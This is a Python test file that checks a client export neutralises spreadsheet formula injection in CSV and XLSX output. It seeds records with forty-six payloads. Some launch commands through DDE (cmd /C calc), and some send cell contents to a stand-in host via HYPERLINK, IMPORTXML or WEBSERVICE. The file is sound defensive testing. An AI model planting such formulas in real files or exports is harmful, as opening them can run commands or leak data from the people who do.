"""Forty texts that a spreadsheet would run, in every attribute that holds text: none is live in a file."""

import csv
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest

from acts.exporting.clients import ExportOrder, convert, exported_pages, prepared_export
from catalogue.attribute import CLIENTS
from catalogue.builtin import builtin_catalogue
from policy.attributes import TEXT_KINDS
from policy.viewer import program
from repositories.compile.records import assign
from repositories.mongo import MongoSettings, connect
from repositories.repositories import Repositories
from tests.acts.exporting.conftest import opened

CATALOGUE = builtin_catalogue()
_BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"ok")', "SUM(1,2)", 'IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "DDE(\"cmd\",\"/C calc\",\"x\")", "WEBSERVICE(\"http://x\")", "2-3", "A1", "10%",
)  # fmt: skip
PAYLOADS = [f"{sign}{body}" for sign in ("=", "+", "-", "@") for body in _BODIES]
MORE = [f"{lead}{body}" for lead in ("\t=", "\r=", "\n=", "'=", "''=", "＝") for body in ("1+1",)]
LIVE = re.compile("[=+\\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"-?[0-9.]+(e[+-]?[0-9]+)?")


def text_paths() -> list[str]:
    secret = {each.path for each in CATALOGUE.area(CLIENTS).values() if CATALOGUE.is_restricted(each)}
    return [
        each.path
        for each in CATALOGUE.area(CLIENTS).values()
        if each.kind in TEXT_KINDS and each.path not in secret and CATALOGUE.list_group_of(each) is None
    ]


@pytest.fixture
async def book(tmp_path: Path) -> Repositories:
    """One client for each payload, who has it in every text."""
    made = await opened(connect(MongoSettings(driver="memory")), tmp_path / "files")
    rows: list[dict[str, Any]] = []
    for at, payload in enumerate((*PAYLOADS, *MORE)):
        row: dict[str, Any] = {"_id": f"cl_{at}", "number": f"N{at}", "kind": "ORGANISATION", "stage": "ACTIVE"}
        for path in text_paths():
            assign(row, path, [payload] if CATALOGUE.get_live(path).is_list else payload)
        rows.append(row)
    await made.clients.collection.insert_many(rows)
    return made


async def test_no_cell_of_csv_or_excel_is_live(book: Repositories, tmp_path: Path) -> None:
    assert (len(PAYLOADS), len(text_paths()) > 15) == (40, True)
    cells = 0
    export = await prepared_export(program("x"), book, ExportOrder("csv"))
    path = tmp_path / "a.csv"
    path.write_bytes(export.head + b"".join([page.data async for page in exported_pages(export)]))
    with path.open(encoding="utf-8", newline="") as text:
        for row in csv.reader(text):
            assert [cell for cell in row if LIVE.match(cell) and not NUMBER.fullmatch(cell)] == []
            cells += len(row)
    assert cells > 46 * len(text_paths())


async def test_a_workbook_has_no_formula_and_no_text_that_could_become_one(book: Repositories, tmp_path: Path) -> None:
    export = await prepared_export(program("x"), book, ExportOrder("xlsx"))
    lines, target = tmp_path / "lines", tmp_path / "a.xlsx"
    lines.write_bytes(b"".join([page.data async for page in exported_pages(export)]))
    await convert(export, lines, target)
    with zipfile.ZipFile(target) as workbook:
        sheet = "".join(workbook.read(name).decode() for name in workbook.namelist() if "worksheets/" in name)
    texts = re.findall(r"<t[^>]*>([^<]*)", sheet)
    assert len(texts) > 46 * len(text_paths()) / 2
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet.lower().replace("hyperlink(", "")
    assert [each for each in texts if LIVE.match(each)] == []
